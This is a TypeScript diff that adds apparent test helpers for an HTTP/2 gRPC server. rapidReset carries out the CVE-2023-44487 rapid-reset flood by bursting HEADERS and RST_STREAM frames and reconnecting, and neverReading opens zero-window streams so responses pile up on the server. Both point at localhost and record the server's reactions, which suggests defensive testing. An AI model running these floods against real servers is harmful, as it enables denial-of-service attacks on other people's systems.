@@ -152,3 +152,59 @@ export function socketCount(pid: number): number {
     }
   }).length;
 }
+
+/** What a rapid-reset client met: the connections it made, and the GOAWAY codes that ended them. */
+export interface RapidResetOutcome {
+  connections: number;
+  goaways: number[];
+}
+
+/**
+ * Rapid reset (CVE-2023-44487) for `ms`: HEADERS then RST_STREAM `perConnection` times per
+ * connection, without waiting, reconnecting whenever the server ends a connection; `loops` at once.
+ */
+export async function rapidReset(port: number, path: string, ms: number, loops = 2, perConnection = 1500): Promise<RapidResetOutcome> {
+  const outcome: RapidResetOutcome = { connections: 0, goaways: [] };
+  const frames: Buffer[] = [];
+  for (let i = 0, id = 1; i < perConnection; i++, id += 2) frames.push(grpcHeaders(id, path), rstStream(id));
+  const burst = Buffer.concat(frames);
+  const end = Date.now() + ms;
+  const loop = async () => {
+    while (Date.now() < end) {
+      const conn = new RawHttp2(port);
+      outcome.connections += 1;
+      conn.write(burst);
+      await Promise.race([conn.closed, new Promise((resolve) => setTimeout(resolve, Math.max(0, end - Date.now())))]);
+      outcome.goaways.push(...conn.goaways);
+      conn.socket.destroy(); // gone, if the server had not closed it yet
+    }
+  };
+  await Promise.all(Array.from({ length: loops }, loop));
+  return outcome;
+}
+
+/** What a client that never reads got: streams answered (HEADERS), and errors. */
+export interface NeverReading {
+  readonly answered: () => number;
+  readonly errors: string[];
+  close(): void;
+}
+
+/**
+ * `streams` calls of `path` on one connection whose client reads nothing: an initial window
+ * of 0 lets the server send no DATA, so every answer it makes stays with it.
+ */
+export function neverReading(port: number, path: string, token: string, streams: number): NeverReading {
+  const client = http2.connect(`http://127.0.0.1:${port}`, { settings: { initialWindowSize: 0 } });
+  client.on('error', () => undefined);
+  let answered = 0;
+  const errors: string[] = [];
+  for (let i = 0; i < streams; i++) {
+    const stream = client.request({ ':method': 'POST', ':path': path, 'content-type': 'application/grpc', te: 'trailers', authorization: `Bearer ${token}` });
+    stream.pause();
+    stream.on('response', () => (answered += 1));
+    stream.on('error', (err: Error) => errors.push(err.message));
+    stream.end(Buffer.alloc(5));
+  }
+  return { answered: () => answered, errors, close: () => client.destroy() };
+}
